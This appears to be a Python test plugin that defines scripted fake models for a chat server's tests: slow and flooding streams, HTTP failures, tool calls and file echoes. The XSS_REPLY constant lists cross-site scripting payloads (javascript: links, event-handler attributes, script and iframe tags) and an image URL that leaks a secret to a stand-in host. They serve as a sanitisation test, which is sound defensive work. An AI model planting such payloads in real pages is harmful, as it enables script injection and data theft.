"""Scripted models for Parley server processes started by the tests (PARLEY_PLUGINS=tests.plugins).

The slow models stand in for a provider that takes time; the tests never sleep to synchronise,
they wait for events or states they can observe.
"""

from __future__ import annotations

import asyncio
import json
import re
from collections import Counter
from collections.abc import AsyncIterator
from functools import partial
from typing import Any

from pydantic_ai.exceptions import ModelHTTPError
from pydantic_ai.messages import BinaryContent, ModelMessage, ModelRequest, TextContent, UserPromptPart
from pydantic_ai.models.function import AgentInfo, DeltaThinkingPart, DeltaToolCall, FunctionModel

from services.llm import ModelRegistry
from tests.scripted import last_user_text, tool_returns


async def fast200(messages: list[ModelMessage], info: AgentInfo) -> AsyncIterator[Any]:
    """200 text deltas at once (the streaming benchmark's model)."""
    for i in range(200):
        yield f"w{i} "


async def slow(messages: list[ModelMessage], info: AgentInfo) -> AsyncIterator[Any]:
    """A long reply at a provider's pace: 'w0 w1 ...', one word every 20 ms (up to 60 s)."""
    words = (
        int(last_user_text(messages).split()[-1]) if last_user_text(messages).split()[-1].isdigit() else 3000
    )
    for i in range(words):
        yield f"w{i} "
        await asyncio.sleep(0.02)


async def tools(messages: list[ModelMessage], info: AgentInfo) -> AsyncIterator[Any]:
    """Thinks, saves a memory with a tool, then answers."""
    if not tool_returns(messages):
        yield {0: DeltaThinkingPart(content="let me note that")}
    if not tool_returns(messages):
        args = '{"key": "topic", "value": "streams", "scope": "session"}'
        yield {1: DeltaToolCall(name="save_memory", json_args=args, tool_call_id="t1")}
    else:
        yield "Saved "
        yield "it."


async def big(messages: list[ModelMessage], info: AgentInfo) -> AsyncIterator[Any]:
    """Large text at once: too big to travel inline in a notification."""
    for i in range(6):
        yield f"[{i}]" + "x" * 1500


async def flood(messages: list[ModelMessage], info: AgentInfo) -> AsyncIterator[Any]:
    """16 MiB of text as fast as it goes: more than any subscriber may hold queued."""
    chunk = "y" * (256 * 1024)
    for _ in range(64):
        yield chunk
        await asyncio.sleep(0)  # let the event loop deliver between chunks


# Model text that tries to run script in the chat page, in small deltas so that tags arrive in
# pieces while the reply streams. Every attempt would set window.__xss.
XSS_REPLY = (
    "Links: [click me](javascript:window.__xss='link') and "
    "<a href=\"javascript:window.__xss='a'\" onclick=\"window.__xss='onclick'\">raw link</a>\n\n"
    "<img src=x onerror=\"window.__xss='img'\"> <svg onload=\"window.__xss='svg'\"></svg>\n\n"
    "<script>window.__xss='script'</script>"
    "<iframe src=\"javascript:window.__xss='iframe'\"></iframe>\n\n"
    "<details open ontoggle=\"window.__xss='toggle'\"><summary>s</summary>x</details>\n\n"
    "<form action=\"javascript:window.__xss='form'\"><button>go</button></form>\n\n"
    "![leak](http://evil.test/pixel.png?secret=1) [a normal link](https://example.test/page)\n\n"
    "```\nnot <b>html</b> here\n```\n"
)


async def xss(messages: list[ModelMessage], info: AgentInfo) -> AsyncIterator[Any]:
    for i in range(0, len(XSS_REPLY), 7):
        yield XSS_REPLY[i : i + 7]


async def fail(messages: list[ModelMessage], info: AgentInfo) -> AsyncIterator[Any]:
    """A provider that answers HTTP 500."""
    raise ModelHTTPError(status_code=500, model_name="script:fail", body={"error": "secret provider detail"})
    yield ""  # a generator all the same


DEMO_REPLY = (
    "Saved. Parley streams each reply over `graphql-transport-ws`; a frontend subscribes like this:\n\n"
    "```js\n"
    'const client = createClient({ url: "ws://127.0.0.1:8000/graphql" });\n'
    "client.subscribe({ query: CHAT, variables }, { next: show });\n"
    "```\n\n"
    "- **`TextDelta`** events grow the reply as the model writes it\n"
    "- **`RunFinished`** carries the usage and the cost\n\n"
    "A dropped socket resumes with `sessionEvents(afterSequence)`: no gap, no duplicate."
)


async def demo(messages: list[ModelMessage], info: AgentInfo) -> AsyncIterator[Any]:
    """The README screenshot's reply: thinks, saves a memory, then answers in markdown."""
    if not tool_returns(messages):
        yield {0: DeltaThinkingPart(content="The user wants to see streaming; note the topic first.")}
        args = '{"key": "topic", "value": "streaming replies", "scope": "session"}'
        yield {1: DeltaToolCall(name="save_memory", json_args=args, tool_call_id="demo1")}
        return
    for i in range(0, len(DEMO_REPLY), 12):
        yield DEMO_REPLY[i : i + 12]
        await asyncio.sleep(0.005)


async def asks(messages: list[ModelMessage], info: AgentInfo) -> AsyncIterator[Any]:
    """Saves a memory with a tool (two, when asked for "two"), then says what the tool answered:
    with `approvalRequired: ["save_memory"]` the run waits for a decision first."""
    returns = tool_returns(messages)
    # A new question (after a stopped run, pydantic-ai answers its dangling call beside the prompt).
    if not returns or last_user_text(messages[-1:]):
        keys = ["colour", "size"] if "two" in last_user_text(messages).split() else ["colour"]
        for i, key in enumerate(keys):
            args = json.dumps({"key": key, "value": f"{key} noted", "scope": "session"})
            yield {i: DeltaToolCall(name="save_memory", json_args=args, tool_call_id=f"ask-{key}")}
        return
    yield "The tool answered: " + "; ".join(str(r.content) for r in returns)


_TAKES: Counter[str] = Counter()
_ATTEMPTS: Counter[str] = Counter()


async def takes(messages: Any, info: AgentInfo) -> AsyncIterator[Any]:
    """'take N: <the user's words>', N counting the replies to those words: a regenerated reply differs."""
    text = last_user_text(messages)
    _TAKES[text] += 1
    yield f"take {_TAKES[text]}: {text}"


async def flaky(messages: list[ModelMessage], info: AgentInfo) -> AsyncIterator[Any]:
    """Fails (HTTP 500) the first time it is asked something; answers when asked again."""
    text = last_user_text(messages)
    _ATTEMPTS[text] += 1
    if _ATTEMPTS[text] == 1:
        raise ModelHTTPError(status_code=500, model_name="script:flaky", body={"error": "try again"})
    yield f"second try: {text}"


async def sees(messages: list[ModelMessage], info: AgentInfo) -> AsyncIterator[Any]:
    """Says what the newest prompt brought: its words ('said: ...'), 'got image/png (68 bytes)'
    for each image or PDF (its real bytes, not the stored reference) and 'got notes.md
    (text/markdown): ...' for each text file."""
    prompt = next(
        part
        for message in reversed(messages)
        if isinstance(message, ModelRequest)
        for part in reversed(message.parts)
        if isinstance(part, UserPromptPart)
    )
    items = [prompt.content] if isinstance(prompt.content, str) else list(prompt.content)
    said = []
    for item in items:
        if isinstance(item, BinaryContent):
            said.append(f"got {item.media_type} ({len(item.data)} bytes)")
        elif isinstance(item, TextContent):  # <file name="..." type="...">the text</file>
            framed = re.fullmatch(
                r'<file name="(.*?)" type="(.*?)">\n?(.*?)\n?</file>', item.content, re.DOTALL
            )
            assert framed is not None, item.content
            name, kind, text = framed.groups()
            said.append(f"got {name} ({kind}): {' '.join(text.split())}")
        elif isinstance(item, str) and item:
            said.append(f"said: {item}")
    yield "; ".join(said) or "got nothing"


MODELS = {
    "script:asks": asks,
    "script:sees": sees,
    "script:flaky": flaky,
    "script:demo": demo,
    "script:fail": fail,
    "script:xss": xss,
    "script:fast200": fast200,
    "script:flood": flood,
    "script:big": big,
    "script:slow": slow,
    "script:tools": tools,
}


def register_models(models: ModelRegistry) -> None:
    for name, fn in MODELS.items():
        models.register(name, partial(FunctionModel, stream_function=fn, model_name=name))
    # Named as a model genai-prices knows, so that its replies have a cost.
    models.register("script:priced", partial(FunctionModel, stream_function=takes, model_name="gpt-4o-mini"))
